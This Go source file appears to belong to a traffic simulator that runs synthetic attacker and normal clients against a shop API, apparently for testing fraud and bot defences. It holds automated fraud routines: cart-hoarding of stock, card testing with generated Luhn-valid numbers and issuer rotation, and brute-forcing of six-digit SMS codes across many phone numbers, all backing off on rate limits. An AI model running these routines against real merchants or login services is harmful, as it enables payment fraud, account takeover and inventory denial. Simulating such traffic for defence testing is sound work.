package main

import (
	"fmt"
	"strconv"
	"time"
)

// holdStock fills carts with what is wanted and never pays, over and over.
func holdStock(a *attacker) {
	a.enter(a.s.chance(0.4))
	ids := idsOf(a.call("GET", a.s.path("products", "")+"?limit=100", nil, "-"))
	if len(ids) == 0 {
		return
	}
	wanted := window(a.s, ids, a.s.number(1, 10))
	qty, hold := a.s.number(1, 25), a.s.ms(200, 5000)
	a.each(func(n int) (string, bool) { return strconv.Itoa(n), true }, func(string) {
		cart := text(a.call("POST", a.s.path("cart", ""), map[string]any{}, "-").body, "id")
		for _, id := range wanted {
			if a.isDone() || cart == "" {
				return
			}
			got := a.call("POST", a.s.path("cartItems", cart), map[string]any{"productId": id, "qty": qty}, "-")
			a.mend(got.status)
		}
		a.s.pause(hold)
	})
}

// testCards pays small sums with invented numbers, and changes the issuer when too many are declined.
func testCards(a *attacker) {
	a.enter(false)
	stem := pick(a.s, "4", "51", "53", "2221") + strconv.Itoa(a.s.number(1000, 9999))
	perStem := a.s.number(20, 200)
	a.each(func(n int) (string, bool) {
		if n%perStem == perStem-1 {
			stem = pick(a.s, "4", "52", "55") + strconv.Itoa(a.s.number(1000, 9999))
		}
		return luhn(stem + digits(a.s, 15-len(stem))), true
	}, func(card string) {
		sum := map[string]any{"card": card, "expiry": fmt.Sprintf("%02d/%d", a.s.number(1, 12), a.s.number(26, 31)), "cvc": digits(a.s, 3), "amount": a.s.number(1, 3)}
		if a.call("POST", a.s.path("payments", ""), sum, "-").status == 429 {
			a.s.pause(a.s.ms(500, 3000))
		}
	})
}

func digits(s *seat, n int) string {
	text := ""
	for ; n > 0; n-- {
		text += strconv.Itoa(s.number(0, 9))
	}
	return text
}

// luhn puts the check digit behind a number.
func luhn(body string) string {
	sum := 0
	for i := range body {
		digit := int(body[len(body)-1-i] - '0')
		if i%2 == 0 {
			digit *= 2
		}
		sum += digit/10 + digit%10
	}
	return body + strconv.Itoa((10-sum%10)%10)
}

// guessCodes guesses the six digits at many phones, as often as each lets it.
func guessCodes(a *attacker) {
	first, perPhone := a.s.number(10_000, 800_000), pick(a.s, 3, 5, 5, 12)
	a.each(func(n int) (string, bool) { return "+3530" + strconv.Itoa(first+n), true }, func(phone string) {
		a.call("POST", a.s.path("otpSend", ""), map[string]string{"phone": phone}, "")
		for n := 0; n < perPhone && !a.isDone(); n++ {
			a.breathe()
			if a.call("POST", a.s.path("otpVerify", ""), map[string]string{"phone": phone, "code": digits(a.s, 6)}, "").status == 429 {
				a.s.pause(a.s.ms(300, 2500))
				return
			}
		}
	})
}

// runBilling charges subscriptions on their day, from a list of stored cards; what is declined is tried once more.
func runBilling(s *seat) {
	c := newCaller(s, "billing", "recurring-payments", "subscription-engine")
	cards := []string{"4242424242424242", "5555555555554444", "4111111111111111", "4242424242424242", "4000000000000002", "5105105105105100"}
	gap, declined := s.ms(30, 1500), []map[string]any{}
	charge := func(bill map[string]any) bool {
		paid := c.post(s.path("payments", ""), bill)
		s.pause(time.Duration(float64(gap) * s.real(0.5, 1.5)))
		return paid.status != 402
	}
	for n := s.logInt(15, 200); n > 0 && !s.isOver(); n-- {
		bill := map[string]any{"card": pick(s, cards...), "expiry": "06/29", "cvc": "100", "amount": pick(s, 5, 10, 25)}
		if !charge(bill) {
			declined = append(declined, bill)
		}
	}
	s.pause(s.ms(1000, 6000))
	for _, bill := range declined {
		if s.isOver() {
			return
		}
		charge(bill)
	}
}
